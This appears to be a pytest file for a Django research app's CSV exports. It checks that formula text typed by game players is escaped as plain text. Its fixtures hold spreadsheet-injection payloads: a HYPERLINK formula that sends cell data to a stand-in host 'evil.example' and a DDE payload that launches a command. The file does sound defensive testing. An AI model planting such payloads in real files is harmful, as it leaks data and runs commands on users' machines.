"""Formula text typed by players reaches the exports as text: every cell of ``turns.csv`` in the
dashboard zips and in ``export_study`` passes the project's CSV guard, and reads back unchanged."""

import csv
import io
import math
import zipfile

import pytest
from analysis_db_helpers import finished_table, make_study
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from analysis.export import read_frames
from analysis.safe_csv import runs_as_formula
from studyapp.participants.models import Participant, Round
from studyapp.tables import services
from tests.exports import assert_export_agrees, export_checked

pytestmark = pytest.mark.django_db

QUESTION = '=HYPERLINK("http://evil.example/?d="&A1,"Is it alive?")'
CLUES = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3 it is round"]


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if runs_as_formula(cell)]


def study_with_a_formula_question():
    study = make_study()
    person = Participant.objects.filter(study=study, status="finished").first()
    events = [
        {"type": "question", "seat": 0, "text": QUESTION},
        {"type": "answer", "seat": 1, "answer": "No"},
        {"type": "question", "seat": 0, "text": "Is it an apple?"},
    ]
    table = finished_table(events, [{"kind": "human", "session_key": "s"}, {"kind": "agent"}])
    Round.objects.create(participant=person, number=4, table=table)
    # The record agrees with its games (export_study --check): a fourth game found at question 2.
    person.rounds_finished += 1
    person.total_reward += 1 / math.log2(3)
    person.save()
    return study


def undercover_with_formula_clues():
    """Four people at an Undercover table type formula clues through the real move path, then
    vote out the difference, which ends the game."""
    seats = [{"kind": "human", "session_key": f"k{i}"} for i in range(4)]
    config = {
        "players": 4,
        "normal_word": "apple",
        "difference_word": "pear",
        "difference_seat": 3,
        "max_vote_rounds": 3,
    }
    table = services.create_table("undercover", config, seats)
    plain = ["grows on trees", "sweet", "you eat it", "fruit", "red", "crisp", "pie", "cider"]
    clues = iter([*CLUES, *plain])
    while services.table_state(table.pk).state.phase == "speak":
        speaker = services.table_state(table.pk).waiting_for()[0]
        services.submit(table.pk, speaker, {"type": "clue", "text": next(clues)})
    for voter, target in [(0, 3), (1, 3), (2, 3), (3, 0)]:
        services.submit(table.pk, voter, {"type": "vote", "target": target})
    assert services.table_state(table.pk).is_over
    return table


@pytest.fixture
def staff() -> Client:
    user = get_user_model().objects.create_user("staff", password="x", is_staff=True)
    client = Client()
    client.force_login(user)
    return client


def test_export_study_writes_a_formula_question_as_text(tmp_path):
    study = study_with_a_formula_question()
    export_checked(study.slug, str(tmp_path), "--format", "csv")
    raw = (tmp_path / "turns.csv").read_text(encoding="utf-8")
    assert "'" + QUESTION.replace('"', '""') in raw
    assert formula_cells(raw) == []
    assert QUESTION in set(read_frames(tmp_path)["turns"]["text"].dropna())


def test_the_study_zip_writes_a_formula_question_as_text(staff, tmp_path):
    study = study_with_a_formula_question()
    url = reverse("dashboard:analysis_study_download", args=[study.slug, "csv"])
    archive = zipfile.ZipFile(io.BytesIO(b"".join(staff.get(url).streaming_content)))
    archive.extractall(tmp_path)
    assert_export_agrees(tmp_path)  # the page's zip is an export like the command's
    raw = archive.read("turns.csv").decode()
    assert QUESTION.replace('"', '""') in raw
    assert formula_cells(raw) == []
    for name in archive.namelist():
        if name.endswith(".csv"):
            assert formula_cells(archive.read(name).decode()) == [], name


def test_the_tables_zip_writes_formula_clues_as_text(staff):
    undercover_with_formula_clues()
    url = reverse("dashboard:analysis_tables_download", args=["csv"])
    archive = zipfile.ZipFile(io.BytesIO(b"".join(staff.get(url).streaming_content)))
    raw = archive.read("turns.csv").decode()
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    for clue in CLUES:
        assert "'" + clue in cells
    assert formula_cells(raw) == []
